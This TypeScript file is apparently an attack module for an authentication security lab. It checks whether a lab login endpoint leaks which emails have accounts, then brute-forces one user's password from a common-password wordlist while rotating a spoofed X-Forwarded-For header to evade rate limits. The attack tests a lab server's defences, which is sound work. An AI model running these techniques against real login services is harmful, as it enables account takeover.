/**
 * An attacker with a list of emails from another site's breach and a list of the 50 most common
 * passwords. First: which of these people have an account here? Then: guess alice's password.
 * Every request claims a different client address in X-Forwarded-For, in case the server
 * believes it.
 */
import { blocked, defineAttack, postJson, worked } from '@authlab/lab-kit';

const EMAILS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank'].map((name) => `${name}@example.com`);

// biome-ignore format: a wordlist reads better dense
const PASSWORDS = [
  '123456', 'password', '12345678', 'qwerty', '123456789', '12345', '1234', '111111', '1234567',
  'dragon', '123123', 'baseball', 'abc123', 'football', 'monkey', 'letmein', '696969', 'shadow',
  'master', '666666', 'qwertyuiop', '123321', 'mustang', '1234567890', 'michael', '654321',
  'superman', '1qaz2wsx', '7777777', '121212', '000000', 'qazwsx', '123qwe', 'killer', 'trustno1',
  'jordan', 'jennifer', 'zxcvbnm', 'asdfgh', 'hunter', 'buster', 'soccer', 'harley', 'batman',
  'andrew', 'tigger', 'sunshine', 'iloveyou', 'charlie', 'robert',
];

let requests = 0;
async function login(url: string, email: string, password: string): Promise<{ status: number; body: string }> {
  requests += 1;
  // "I am just a proxy, passing on a request from 203.0.113.n": a new n every time.
  const response = await postJson(
    { url },
    '/login',
    { email, password },
    { 'x-forwarded-for': `203.0.113.${requests % 250}` },
  );
  return { status: response.status, body: await response.text() };
}

export default defineAttack({
  title: "find out which emails have accounts, then guess alice's password from the 50 most common ones",
  why: 'the login answers an unknown account differently, and nothing limits how many passwords one client may try, whatever address it claims to send from',
  async run(lab) {
    const found: string[] = [];

    // (a) Enumeration: one wrong password per email; group the emails by the answer they got.
    const answers = new Map<string, string[]>();
    for (const email of EMAILS) {
      const { status, body } = await login(lab.url, email, 'not-the-password');
      if (status === 429) continue; // "slow down" says nothing about the account
      const key = `${status} ${body}`;
      answers.set(key, [...(answers.get(key) ?? []), email]);
    }
    if (answers.size > 1) {
      const groups = [...answers].map(([answer, emails]) => `${emails.join(', ')} → ${answer}`);
      found.push(`learned who has an account, as the answers differ by email (${groups.join('; ')})`);
    }

    // (b) Brute force: every common password against alice, a new X-Forwarded-For each time.
    let refused = 0;
    for (const [index, password] of PASSWORDS.entries()) {
      const { status } = await login(lab.url, 'alice@example.com', password);
      if (status === 429) refused += 1;
      if (status === 200) {
        found.push(
          `signed in as alice with "${password}" (guess ${index + 1} of ${PASSWORDS.length}, each from a "new" X-Forwarded-For; ${refused} refused with 429)`,
        );
        break;
      }
    }

    if (found.length > 0) return worked(found.join('; and '));
    return blocked(
      `every email got the same answer, and ${refused} of ${PASSWORDS.length} guesses at alice's password were refused with 429`,
    );
  },
});
